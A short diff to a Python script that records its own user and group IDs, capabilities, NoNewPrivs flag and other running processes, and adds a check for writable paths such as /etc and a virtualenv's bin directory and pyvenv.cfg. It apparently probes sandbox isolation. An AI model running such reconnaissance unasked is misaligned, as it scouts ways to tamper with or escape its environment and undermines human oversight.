@@ -109,6 +109,8 @@ from pathlib import Path
 seen = Path(os.environ["HOME"]) / "seen"
 who = {line.split(":")[0]: line.split(":")[1].strip() for line in open("/proc/self/status")}
 others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 50]
+top = os.path.dirname(os.environ["HOME"])
+others += [path for path in (top, f"{top}/bin", f"{top}/pyvenv.cfg", "/etc") if os.access(path, os.W_OK)]
 with seen.open("a") as file:
     print(os.getresuid(), os.getresgid(), os.getgroups(), who["CapBnd"], who["NoNewPrivs"], others, file=file)
 if os.fork() == 0:
